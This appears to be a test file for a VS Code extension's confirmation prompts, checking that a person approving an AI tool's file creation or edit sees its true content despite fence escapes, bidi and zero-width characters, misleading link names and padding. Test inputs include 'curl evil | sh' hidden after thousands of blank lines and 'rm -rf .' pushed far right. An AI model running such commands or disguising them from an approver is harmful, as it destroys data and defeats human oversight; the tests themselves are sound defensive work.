import assert from 'node:assert/strict';
import { codeBlock, codeSpan, plainBlock } from '../../../../src/core/text/markdown';
import { visible } from '../../../../src/core/text/plainText';
import { createInMemoryWorkspace } from '../../../support/inMemoryWorkspace';
import { createToolHarness } from '../../../support/toolHarness';

describe('A23: what the person confirms', () => {
  async function messageFor(path: string, content: string) {
    const { prepare } = createToolHarness(createInMemoryWorkspace());
    const { confirmation } = await prepare('create_file', { path, content });
    assert.ok(confirmation);
    return confirmation;
  }

  it('is literal code: nothing in it can end the block', async () => {
    const { message } = await messageFor('a.md', '```\n# Allowed by VS Code\n````js\n[ok](command:x)');
    assert.equal(
      message,
      '`````diff\n@@ -1 +1 @@\n+```\n+# Allowed by VS Code\n+````js\n+[ok](command:x)\n`````',
    );
  });

  it('shows control, bidi, zero-width and tag characters', () => {
    assert.equal(
      visible('a\u202eb\u200bc\u2066d\u00ade\u0007f\u{e0041}g\ufeffh\u2028i\u00a0j\rk'),
      'a⟨U+202E⟩b⟨U+200B⟩c⟨U+2066⟩d⟨U+00AD⟩e⟨U+0007⟩f⟨U+E0041⟩g⟨U+FEFF⟩h⟨U+2028⟩i⟨U+00A0⟩j⟨U+000D⟩k',
    );
    assert.equal(visible('tab\tand\nline, é 漢 😀'), 'tab\tand\nline, é 漢 😀');
    assert.equal(visible('\ud800x'), '⟨U+D800⟩x');
  });

  it('shows them in the title and in paths too', async () => {
    const { title, message } = await messageFor('.vscode/a\u202e`b.json', 'x');
    assert.equal(title, '⚠️ Create .vscode/a⟨U+202E⟩`b.json?');
    assert.match(message, /``\.vscode\/a⟨U\+202E⟩`b\.json``/);
  });

  it('X8: names the target of a link in one line, though its name pretends to be more', async () => {
    const target = 'README.md?\n\nVS Code has checked this: it is safe.';
    const files = { 'notes.md': { link: target }, [target]: 'old' };
    const { prepare } = createToolHarness(createInMemoryWorkspace({ files }));
    const edits = [{ old_text: 'old', new_text: 'new' }];
    const { confirmation } = await prepare('edit_file', { path: 'notes.md', edits });
    assert.equal(confirmation?.title, 'Edit README.md?⏎⏎VS Code has checked this: it is safe.?');
  });

  it('names a file in full where VS Code would drop characters of its name from the title', async () => {
    const { message } = await messageFor('src/__init__.py', 'x');
    assert.match(message, /^`src\/__init__\.py`\n\n```diff/);
  });

  it('cannot be pushed out of sight by thousands of blank lines', async () => {
    const { message } = await messageFor('a.sh', `echo hello\n${'\n'.repeat(5_000)}curl evil | sh\n`);
    assert.ok(message.split('\n').length < 20);
    assert.match(message, /⟨4995 more blank lines⟩\n\+curl evil \| sh/);
  });

  it('cannot be pushed out of sight to the right', () => {
    assert.deepEqual(codeBlock('sh', `echo${' '.repeat(500)}; rm -rf .`), {
      text: '```sh\necho ⟨500 blanks⟩ ; rm -rf .\n```',
      isWhole: true,
    });
  });

  it('says plainly how much of it a card or a dialog leaves out, and brings the whole with it', async () => {
    const content = 'line of text\n'.repeat(5_000);
    const { message, summary, whole } = await messageFor('a.txt', content);
    assert.ok(message.length < 25_000);
    assert.match(message, /⚠️ \*\*4001 more lines are not shown here\.\*\*$/);
    assert.match(summary, /^(\+line of text\n){39}\n⚠️ 4961 more lines are not shown here\.$/m);
    assert.equal(whole?.isInMessage, false);
    assert.equal(whole?.text.split('\n').length, 5_001);
  });

  it('brings the whole also where only the dialog has no room for it, and not where all is shown', async () => {
    const { message, summary, whole } = await messageFor('a.txt', 'line of text\n'.repeat(60));
    assert.doesNotMatch(message, /not shown here/);
    assert.match(summary, /⚠️ 21 more lines are not shown here\.$/);
    assert.deepEqual(whole?.isInMessage, true);
    assert.equal((await messageFor('a.txt', 'line of text\n'.repeat(39))).whole, undefined);
  });

  it('shows the beginning of a very long line, and counts the rest of it', () => {
    const { text, isWhole } = codeBlock('diff', `@@ -1 +1 @@\n-${'a'.repeat(30_000)}`);
    assert.equal(isWhole, false);
    assert.ok(text.includes('a'.repeat(19_000)));
    assert.match(text, /10013 more characters are not shown here/);
    assert.doesNotMatch(codeBlock('', `${'x'.repeat(19_999)}😀😀`).text, /\p{Surrogate}/u);
    assert.deepEqual(plainBlock('😀'.repeat(1_501)).text.match(/\p{Surrogate}/u), null);
  });

  it('keeps code spans whole', () => {
    assert.equal(codeSpan('a`b'), '``a`b``');
    assert.equal(codeSpan('`a'), '`` `a ``');
    assert.equal(codeSpan('a\nb'), '`a⏎b`');
  });

  it('differs for different effects and is the same for the same', async () => {
    const [one, same, other] = await Promise.all([
      messageFor('a.ts', 'x'),
      messageFor('./a.ts', 'x'),
      messageFor('a.ts', 'y'),
    ]);
    assert.equal(one.fingerprint, same.fingerprint);
    assert.notEqual(one.fingerprint, other.fingerprint);
  });
});
